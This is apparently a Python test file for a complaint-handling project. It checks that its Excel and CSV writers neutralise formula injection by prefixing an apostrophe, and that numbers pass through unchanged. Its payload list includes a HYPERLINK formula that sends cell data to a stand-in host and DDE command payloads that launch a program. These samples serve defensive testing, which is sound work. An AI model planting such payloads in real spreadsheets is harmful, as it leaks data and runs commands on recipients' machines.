"""Every .xlsx and .csv the project writes: a citizen's text that looks like a formula comes
out as text a spreadsheet will not run; numbers stay numbers."""

from __future__ import annotations

import csv
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook

from complaintdesk.intake.importer import RowError, write_error_report
from complaintdesk.io.cells import safe_cell
from complaintdesk.io.excel import Sheet, write_workbook
from complaintdesk.triage.archive import write_table

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"查看详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_looking_text_gets_a_leading_apostrophe(attack: str) -> None:
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize(
    "value", [12, -3, 2.5, Decimal("-7.25"), None, "-12.5", "+86", "普通投诉", "a=b", ""]
)
def test_numbers_and_ordinary_text_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


# XML keeps no bare carriage return: an .xlsx reads "\r" back as "\n".
IN_XLSX = ["'" + a.replace("\r", "\n") for a in ATTACKS]


def _inert_xlsx_cells(content: bytes) -> list[tuple[object, str]]:
    book = load_workbook(BytesIO(content))
    return [(c.value, c.data_type) for row in book.active.iter_rows() for c in row]


def test_the_workbook_writer_stores_no_formula(tmp_path: Path) -> None:
    content = write_workbook(
        [
            Sheet(
                title="导出",
                headers=["内容", "分数", "比率"],
                rows=[[attack, 88, Decimal("0.95")] for attack in ATTACKS],
            )
        ]
    )
    cells = _inert_xlsx_cells(content)
    assert not [v for v, kind in cells if kind == "f"]
    texts = [v for v, _kind in cells if isinstance(v, str) and v.startswith("'")]
    assert texts == IN_XLSX
    assert [v for v, _kind in cells if isinstance(v, int | float)].count(88) == len(ATTACKS)


def test_the_archive_writer_stores_no_formula_in_xlsx_or_csv(tmp_path: Path) -> None:
    rows: list[dict[str, object]] = [{"content": a, "label": "城乡建设"} for a in ATTACKS]
    write_table(tmp_path / "archive.xlsx", ["content", "label"], rows)
    cells = _inert_xlsx_cells((tmp_path / "archive.xlsx").read_bytes())
    assert not [v for v, kind in cells if kind == "f"]
    assert [v for v, _kind in cells][2::2] == IN_XLSX
    write_table(tmp_path / "archive.csv", ["content", "label"], rows)
    with (tmp_path / "archive.csv").open(encoding="utf-8-sig", newline="") as fh:
        read = list(csv.reader(fh))
    assert read[0] == ["content", "label"]
    assert [r[0] for r in read[1:]] == ["'" + a for a in ATTACKS]
    assert all(not r[0].startswith(("=", "+", "-", "@", "\t", "\r")) for r in read[1:])


def test_the_import_error_report_quotes_no_formula(tmp_path: Path) -> None:
    path = tmp_path / "errors.csv"
    write_error_report(
        path, [RowError(row=i + 2, reason=f"无法识别：{a}", ref=a) for i, a in enumerate(ATTACKS)]
    )
    with path.open(encoding="utf-8-sig", newline="") as fh:
        read = list(csv.reader(fh))
    assert [r[0] for r in read[1:]] == [str(i + 2) for i in range(len(ATTACKS))]
    assert [r[1] for r in read[1:]] == ["'" + a for a in ATTACKS]
    assert all(r[2].startswith("无法识别") for r in read[1:])
